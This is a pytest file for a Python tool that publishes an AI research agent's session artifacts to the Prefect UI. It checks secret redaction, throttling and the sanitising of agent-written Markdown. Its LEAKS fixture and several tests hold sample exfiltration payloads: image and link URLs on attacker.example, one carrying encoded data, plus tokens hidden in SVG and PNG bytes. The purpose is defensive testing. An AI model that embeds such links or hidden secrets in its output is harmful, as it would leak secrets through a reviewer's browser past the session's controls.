"""The session's artifacts for the Prefect UI (labrun.artifacts), without a server: what
they hold, that secrets stay out, that following the state costs the engine next to
nothing, and that a server that does not answer never stops a session."""

from __future__ import annotations

import base64
import re
import threading
import time
from pathlib import Path

import pytest

from labrun import artifacts
from labrun.state import StateStore, load_state
from labrun.tools import RunExperimentInput

DEMO_IDEA = Path(__file__).resolve().parents[1] / "examples" / "demo_noise_averaging.yaml"


def test_views_hold_state_md_attempts_progress_and_usage(session, monkeypatch):
    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
    session.records.new("experiments", RunExperimentInput(
        command="python3 run.py --token tok-123456789-secret", purpose="p"), {})
    session.records.update(1, status="FAILED", error="exit code 1", exit_code=1)
    session.store.set_phase("planning", "DONE", "phase 1 planning finished")
    views = artifacts.SessionArtifacts(session).views()

    assert views["state"] == (session.ws.root / "STATE.md").read_text()
    assert views["progress"] == pytest.approx(100 / 6, abs=0.1)
    table = views["attempts"]
    assert list(table) == list(artifacts.ATTEMPT_COLUMNS)
    assert table["status"] == ["FAILED"] and table["exit code"] == [1]
    assert "tok-123456789-secret" not in repr(views)
    assert "[REDACTED]" in table["command"][0]
    usage = views["usage"]
    assert usage["phase"] == ["planning", "setup", "implementation", "experiments", "analysis",
                              "documentation", "session"]
    assert usage["status"][0] == "DONE"


def test_keys_are_fixed_per_session_and_name_its_idea(session):
    key = artifacts.artifact_key(session.state.title, session.state.session_id, "state")
    assert key.startswith("labrun-averaging-noisy-measurements-") and key.endswith(f"-{session.state.session_id}-state")
    assert key.replace("-", "").isalnum() and key == key.lower()


def test_following_the_state_is_cheap_and_throttled(session, monkeypatch):
    calls = {"create": 0, "update": 0}
    engine = threading.current_thread()
    updated_from: list[threading.Thread] = []

    def count(kind):
        def record(self):
            calls[kind] += 1
            if kind == "update":
                updated_from.append(threading.current_thread())
        return record

    monkeypatch.setattr(artifacts.SessionArtifacts, "_create", count("create"))
    monkeypatch.setattr(artifacts.SessionArtifacts, "_update", count("update"))
    publisher = artifacts.SessionArtifacts.attach(session, interval_s=0.3)
    time.sleep(0.7)
    assert calls["update"] == 0, calls  # nothing saved: nothing sent
    started = time.monotonic()
    for _ in range(20):  # saves spread over ~0.6 s (longer on a busy machine)
        session.store.log("something happened")
        time.sleep(0.03)
    time.sleep(0.4)
    publisher.close()
    intervals = (time.monotonic() - started) / 0.3
    assert calls["create"] == 1
    assert 1 <= calls["update"] <= intervals + 2, calls  # ~1 per interval, plus the final one
    # The background thread sends; the engine only the final state, when the run ends.
    assert updated_from.count(engine) <= 1, updated_from


def test_saves_of_another_store_are_followed(session, monkeypatch):
    """A phase task records through a store of its own, in whatever process it runs."""
    sent = []
    monkeypatch.setattr(artifacts.SessionArtifacts, "_update", lambda self: sent.append(self.views()["state"]))
    publisher = artifacts.SessionArtifacts.attach(session, interval_s=0.1)
    other = StateStore(session.ws, load_state(session.ws)[0])
    other.log("recorded by another store")
    deadline = time.monotonic() + 10
    while not any("recorded by another store" in text for text in sent) and time.monotonic() < deadline:
        time.sleep(0.05)
    publisher.close()
    other.close()
    assert any("recorded by another store" in text for text in sent), sent


def test_a_server_that_does_not_answer_never_stops_the_session(session, monkeypatch, caplog):
    def down(self):
        raise ConnectionError("the Prefect API at http://127.0.0.1:9/api does not answer")

    monkeypatch.setattr(artifacts.SessionArtifacts, "_create", down)
    publisher = artifacts.SessionArtifacts.attach(session)
    session.store.log("the session goes on")
    publisher.close()
    assert "stopped updating" in caplog.text
    assert "the session goes on" in (session.ws.root / "STATE.md").read_text()


def test_a_retried_run_shows_each_artifact_once_with_the_report_and_the_figures(tmp_path, prefect_api, monkeypatch):
    """A flow run that fails at experiments and is retried (Prefect runs the same flow run
    again, as the UI's Retry does): each of the session's artifacts is on the run once, the
    version its first try made, brought up to date."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId

    from labrun.flows.session import research_session
    from labrun.status import session_status

    monkeypatch.setenv("LABRUN_SCRIPTED_FAULTS", "raise@experiments:3")
    ws = tmp_path / "ws"
    state = research_session.with_options(retries=1, retry_delay_seconds=0)(
        str(DEMO_IDEA), str(ws), "scripted", return_state=True)
    assert state.is_completed(), state
    with get_client(sync_client=True) as client:
        run = client.read_flow_run(state.state_details.flow_run_id)
        made = client.read_artifacts(artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[run.id])))
    assert run.run_count == 2, "the run was not retried"
    status = session_status(ws)
    kinds = ("state", "attempts", "progress", "usage", "verdict", "report", "figures")
    keys = sorted(artifacts.artifact_key(status["idea"]["title"], status["session"]["id"], k) for k in kinds)
    made = [a for a in made if a.key]  # Prefect's own (a task's result) have none
    assert sorted(a.key for a in made) == keys
    by_kind = {a.key.rsplit("-", 1)[1]: a.data for a in made}
    assert by_kind["state"] == (ws / "STATE.md").read_text() and "Phase 6 — documentation: DONE" in by_kind["state"]
    report = (ws / "REPORT.md").read_text()
    assert "<!-- labrun:results -->" in report  # the engine's mark, which the browser need not see
    assert by_kind["report"] == re.sub("<!-- /?labrun:results -->", "", report)
    svg = base64.b64encode((ws / "results/rmse_vs_k.svg").read_bytes()).decode()
    assert f"![results/rmse_vs_k.svg](data:image/svg+xml;base64,{svg})" in by_kind["figures"]


def test_report_images_by_path_are_named_and_figures_past_the_limit_are_listed(session):
    root = session.ws.root
    (root / "REPORT.md").write_text("# R\n\n![the plot](results/plot.png)\n\n![remote](https://example.org/a.png)\n")
    assert artifacts.untrusted_markdown(artifacts.report_markdown(root)) == (
        "# R\n\n*(figure `results/plot.png`: in the session's figures artifact)*\n\n"
        "*(image `https://example.org/a.png`: not shown)*\n")
    (root / "results/big.png").write_bytes(b"\x89PNG" + b"0" * artifacts.FIGURE_BYTES)
    (root / "results/small.png").write_bytes(b"\x89PNG")
    (root / "results/link.png").symlink_to("/etc/hostname")
    shown = artifacts.figures_markdown(root, ["results/big.png", "results/small.png", "results/link.png", "results/gone.png"])
    assert "- `results/big.png`: not shown: results/big.png holds more than 1,048,576 bytes" in shown
    assert "![results/small.png](data:image/png;base64,iVBORw==)" in shown
    assert "- `results/link.png`: not shown: results/link.png is a link" in shown
    assert "- `results/gone.png`: no longer in the workspace" in shown


LEAKS = """# Results

![plot](https://attacker.example/p.png?d=c2VjcmV0)
<img src="https://attacker.example/i.png"> and <picture><source srcset="//attacker.example/s"></picture>
![by reference][r] and ![nested [brackets]](https://attacker.example/n.png)
[r]: https://attacker.example/r.png
[a link](https://attacker.example/l) <https://attacker.example/auto>
`![in code](https://attacker.example/c.png)`
![agent's own data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
a < b and x<5 stay; <!-- a comment --> goes
"""


def rendered(markdown: str) -> str:
    """`markdown` as a browser gets it (CommonMark, by markdown-it-py: rich's own)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(markdown)


def test_the_agents_markdown_makes_the_browser_fetch_nothing_it_chose():
    """REPORT.md, or any Markdown the reviewer reads, may hold an image whose URL carries a
    secret out (the reviewer's browser fetches it, past every network rule of the session):
    every image becomes text naming it, raw HTML is shown as text, a link's target as text."""
    assert "<img" in rendered(LEAKS) and "<a href" in rendered(LEAKS)  # what the renderer would do unguarded
    safe = artifacts.untrusted_markdown(LEAKS)
    html = rendered(safe)
    assert "<img" not in html and "<a " not in html and "<picture" not in html and "<source" not in html, html
    assert "*(image `https://attacker.example/p.png?d=c2VjcmV0`: not shown)*" in safe
    assert "a link (`https://attacker.example/l`)" in safe
    assert "a < b and x<5 stay;  goes" in safe


def test_every_artifact_sent_is_redacted_and_safe_whichever_view_made_it(monkeypatch):
    """`shown`, which `publish` and every update send through: a view that forgot to redact,
    or quoted the agent's Markdown, still sends nothing secret and no image; the figures
    view keeps the engine's own `data:` images."""
    from prefect.artifacts import MarkdownArtifact, TableArtifact

    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
    data, description = artifacts.shown(MarkdownArtifact(
        key="k", markdown="tok-123456789-secret ![x](https://attacker.example/?d=1)",
        description="about tok-123456789-secret <img src=//attacker.example>"), "report")
    assert "tok-123456789-secret" not in data + description and "<img" not in rendered(data + description)
    table, _ = artifacts.shown(TableArtifact(key="k", table={"command": ["run --token tok-123456789-secret"]}), "attempts")
    assert "tok-123456789-secret" not in table and "[REDACTED]" in table
    figure = "![a.svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"
    data, _ = artifacts.shown(MarkdownArtifact(key="k", markdown=f"### a.svg\n\n{figure}\n"), "figures")
    assert figure in data
    data, _ = artifacts.shown(MarkdownArtifact(key="k", markdown=f"### a.svg\n\n{figure}\n"), "report")
    assert "<img" not in rendered(data)


def png_with_text(text: bytes) -> bytes:
    """A 1×1 PNG with a tEXt chunk holding `text`."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\0" + text) + chunk(b"IDAT", zlib.compress(b"\0\0"))
            + chunk(b"IEND", b""))


def test_a_secret_in_a_figures_bytes_never_reaches_the_figures_artifact(session, monkeypatch):
    """An SVG's <text> or a PNG's text chunk may carry a key: the figure's bytes are
    redacted before they are encoded (base64 hides them from any later redaction), and the
    figure is still shown, with a note."""
    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
    token = "sk-ant-api03-" + "x" * 40  # known by its shape alone
    root = session.ws.root
    (root / "results/a.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><text>{token}</text></svg>')
    (root / "results/b.png").write_bytes(png_with_text(b"tok-123456789-secret \xff"))
    shown = artifacts.figures_markdown(root, ["results/a.svg", "results/b.png"])
    decoded = b"".join(base64.b64decode(uri) for uri in re.findall(r";base64,([^)]*)\)", shown))
    assert decoded.count(b"[REDACTED]") == 2 and b"sk-ant-" not in decoded and b"tok-1234" not in decoded
    assert b"\xff" in decoded and shown.count("Secrets redacted from its bytes") == 2
